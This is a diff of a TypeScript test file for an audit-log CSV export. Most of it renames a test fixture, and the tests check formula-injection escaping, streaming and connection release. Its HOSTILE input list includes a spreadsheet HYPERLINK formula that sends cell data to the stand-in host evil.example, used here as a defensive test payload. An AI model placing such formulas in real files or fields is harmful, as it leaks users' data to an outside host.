@@ -3,7 +3,7 @@ import { sql } from "drizzle-orm";
 import { causeOf, record } from "@/db/audit/record";
 import { createGroup } from "@/db/groups/create";
 import { baseUrl, send } from "./app";
-import { expect, test, type World } from "./scenario";
+import { expect, type Scenario, test } from "./scenario";
 
 const HOSTILE = [
   `=HYPERLINK("https://evil.example/?"&A1,"open")`,
@@ -17,21 +17,21 @@ const HOSTILE = [
 ];
 const UNSEEN = ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", `x\n=1+1,"`];
 
-test("no cell of an export starts a formula, whoever chose the names", async ({ world }) => {
-  const ctx = await world.as("alex", "acme");
+test("no cell of an export starts a formula, whoever chose the names", async ({ scenario }) => {
+  const ctx = await scenario.contextOf("alex", "acme");
   for (const name of HOSTILE) {
     await createGroup({ ctx, input: { name, description: name, roleIds: [] } });
   }
   for (const name of UNSEEN) {
     const details = { changes: { [name]: [name, name] }, groups: [name, name], [name]: name };
-    await record(world.db, causeOf(ctx), { action: "groups.edit", subject: { name }, details });
+    await record(scenario.db, causeOf(ctx), { action: "groups.edit", subject: { name }, details });
   }
-  await world.db.execute(
-    sql`update organizations set name = ${"=1+1"} where id in (${world.places.acme.id}, ${world.places.meridian.id})`,
+  await scenario.db.execute(
+    sql`update organizations set name = ${"=1+1"} where id in (${scenario.organizations.acme.id}, ${scenario.organizations.meridian.id})`,
   );
 
-  const { status, headers, body } = await send(world.path("acme", "/audit/export"), {
-    cookie: await world.cookie("alex", "acme"),
+  const { status, headers, body } = await send(scenario.path("acme", "/audit/export"), {
+    cookie: await scenario.cookie("alex", "acme"),
   });
   expect(status).toBe(200);
   expect(headers).toMatchObject({
@@ -48,44 +48,46 @@ test("no cell of an export starts a formula, whoever chose the names", async ({ 
   for (const cell of semicolons) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
 });
 
-test("an export is sent while the rest is not yet read, and what comes last is in it", async ({ world }) => {
-  await fill(world, 8000);
-  const answer = await download(world);
+test("an export is sent while the rest is not yet read, and what comes last is in it", async ({
+  scenario,
+}) => {
+  await fill(scenario, 8000);
+  const answer = await download(scenario);
   await firstBytes(answer);
   // While nobody takes what comes next: had it all been read at once, this would be missing.
-  await world.db.execute(sql`
+  await scenario.db.execute(sql`
     insert into audit_events (organization_id, at, actor_name, action, subject_name)
-    values (${world.places.acme.id}, timestamptz '2001-01-01', 'alex', 'groups.create', 'Added at the far end')`);
+    values (${scenario.organizations.acme.id}, timestamptz '2001-01-01', 'alex', 'groups.create', 'Added at the far end')`);
   const rows = cellsOf(await rest(answer));
   expect(rows.at(-1)).toContain("Added at the far end");
   expect(rows.length).toBeGreaterThan(8000);
 });
 
-test("downloads that are given up hold nothing: the next one is served", async ({ world }) => {
-  await fill(world, 2000);
-  const cookie = await world.cookie("alex", "acme");
+test("downloads that are given up hold nothing: the next one is served", async ({ scenario }) => {
+  await fill(scenario, 2000);
+  const cookie = await scenario.cookie("alex", "acme");
   // Ten connections to the database are all that the app has.
-  const answers = await Promise.all(Array.from({ length: 15 }, () => download(world)));
+  const answers = await Promise.all(Array.from({ length: 15 }, () => download(scenario)));
   await Promise.all(answers.map(firstBytes));
-  expect((await send(world.path("acme", "/users"), { cookie })).status).toBe(200);
+  expect((await send(scenario.path("acme", "/users"), { cookie })).status).toBe(200);
   for (const answer of answers) answer.destroy();
-  const { body } = await send(world.path("acme", "/audit/export"), { cookie });
+  const { body } = await send(scenario.path("acme", "/audit/export"), { cookie });
   expect(cellsOf(body).length).toBeGreaterThan(2000);
 });
 
 /** Rows of some kilobytes: more of them than the connection holds in store. */
-async function fill({ db, places }: World, count: number): Promise<void> {
+async function fill({ db, organizations }: Scenario, count: number): Promise<void> {
   await db.execute(sql`
     insert into audit_events (organization_id, at, actor_name, action, subject_name, details)
-    select ${places.acme.id}, now() - n * interval '1 minute', 'alex', 'groups.edit', 'Drivers',
+    select ${organizations.acme.id}, now() - n * interval '1 minute', 'alex', 'groups.edit', 'Drivers',
       jsonb_build_object('because', repeat('why ', 1000))
     from generate_series(1, ${count}) n`);
 }
 
-async function download(world: World): Promise<IncomingMessage> {
+async function download(scenario: Scenario): Promise<IncomingMessage> {
   const { host, port } = new URL(baseUrl());
-  const headers = { host, cookie: await world.cookie("alex", "acme") };
-  const path = world.path("acme", "/audit/export");
+  const headers = { host, cookie: await scenario.cookie("alex", "acme") };
+  const path = scenario.path("acme", "/audit/export");
   return new Promise((resolve, reject) => {
     const asked = request({ agent: new Agent(), host: "127.0.0.1", port, path, headers }, resolve);
     asked.on("error", reject);
